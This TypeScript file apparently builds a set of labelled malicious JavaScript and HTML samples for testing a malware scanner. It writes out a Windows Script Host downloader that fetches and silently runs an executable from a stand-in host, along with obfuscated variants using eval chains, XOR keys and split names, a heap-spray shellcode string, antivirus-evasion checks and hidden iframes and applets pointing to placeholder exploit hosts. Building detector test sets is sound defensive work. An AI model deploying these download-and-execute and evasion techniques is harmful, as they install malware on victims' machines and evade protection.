import { backwards, characterCodes, exclusiveOr } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const sample = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'malware',
  code,
});

const download = `var h = new ActiveXObject('MSXML2.XMLHTTP'), s = new ActiveXObject('ADODB.Stream'), w = new ActiveXObject('WScript.Shell');
var f = w.ExpandEnvironmentStrings('%TEMP%') + '/setup.exe'; h.open('GET', 'http://get.host.test/setup', false); h.send();
s.open(); s.type = 1; s.write(h.responseBody); s.saveToFile(f, 2); w.Run(f, 0);`;

/** The code in pieces, each added by a function that calls the next one. */
const chained = (code: string): string => {
  const pieces = code.match(/[\s\S]{1,9}/g) ?? [];
  const functions = pieces.map(
    (piece, at) =>
      `function f${at}() { t += ${JSON.stringify(piece)}; ${at + 1 < pieces.length ? `f${at + 1}();` : ''} }`,
  );
  return `var t = ''; ${functions.join(' ')} f0(); eval(t);`;
};

/** Each second character is filling. */
const filled = (code: string): string => [...code].map((it) => `${it}z`).join('');

const nested = [
  ...'var a = unescape("%u0c0c%u0c0c"); while (a.length < 131072) a += a; var b = unescape("%ue8fc%u0089%u0000%u8960%u31e5%u64d2%u528b%u8b30%u0c52"); fire(a + b);',
]
  .map((it) => it.charCodeAt(0) + 11)
  .join('*');

/** Scripts for the script host of Windows, and attacks on old browsers. */
export const scriptHostSamples: readonly MaliciousSample[] = [
  sample('host-download', 'Downloads a program, saves it and runs it', download),
  sample('host-chained', 'Code in pieces that functions add to a string', chained(download)),
  sample(
    'host-filled',
    'Code with filling between its characters',
    `var c = ${JSON.stringify(filled(download))}, o = '', i = 0; while (i < c.length) { o += c.charAt(i); i += 2; } this['ev' + 'al'](o);`,
  ),
  sample(
    'host-names',
    'Names of objects and methods that are cut together',
    `var k = ['Run', '.Shell', 'W', 'Script', 'Object'], m = this['ActiveX' + k[4]]; new m(k[2] + k[3] + k[1])[k[0]]('cmd /c start http://get.host.test/a');`,
  ),
  sample(
    'host-keyed',
    'Code that is decoded with a key',
    `var d = [${exclusiveOr(download, 91)}], o = ''; for (var i = 0; i < d.length; i++) o += String.fromCharCode(d[i] ^ 91); new Function(o)();`,
  ),
  sample(
    'host-written',
    'Writes a script to the disk and runs it',
    `var f = WScript.CreateObject('Scripting.FileSystemObject').CreateTextFile('a.js', true); f.Write('${backwards(';)(og')}'); f.Close(); WScript.CreateObject('Shell.Application').ShellExecute('wscript.exe', 'a.js');`,
  ),
  sample(
    'page-element-code',
    'A page with its code as numbers in an element',
    `<html><body><p id="n">${nested}</p><script>var p = document.getElementById('n').innerHTML.split('*'), s = ''; for (var i = 0; i < p.length; i++) s += String.fromCharCode(p[i] - 11); window['ev' + 'al'](s);</script></body></html>`,
  ),
  sample(
    'local-files',
    'Looks for protection on the disk before it shows itself',
    `var n = ['Defender/a.exe', 'Watcher/b.dll', 'Lab/c.sys']; for (var i = 0; i < n.length; i++) { var m = new Image(); m.onload = function () { found = 1; }; m.src = 're' + 's://C:/Program Files/' + n[i]; } if (!window.found) document.write('<iframe src="//kit.host.test/" width=1 height=1></iframe>');`,
  ),
  sample(
    'hidden-applet',
    'A page with a Java program that runs a file',
    `<applet archive="v.jar" code="V.class" width="1" height="1"><param name="u" value="http://get.host.test/v.exe"></applet><script>var ready = 1;</script>`,
  ),
  sample(
    'basic-shell',
    'A page that runs a program with VBScript',
    `<script language="VBScript">Set s = CreateObject("WScript.Shell") : s.Run "notepad"</script>`,
  ),
  sample(
    'codes-of-frame',
    'Writes an invisible frame whose host is hidden, in old browsers only',
    `if (/MSIE [6-9]/.test(navigator.userAgent)) { document.write(String.fromCharCode(${characterCodes('<iframe src="http://gate.landing.test/" width=0 height=0></iframe>')})); }`,
  ),
];
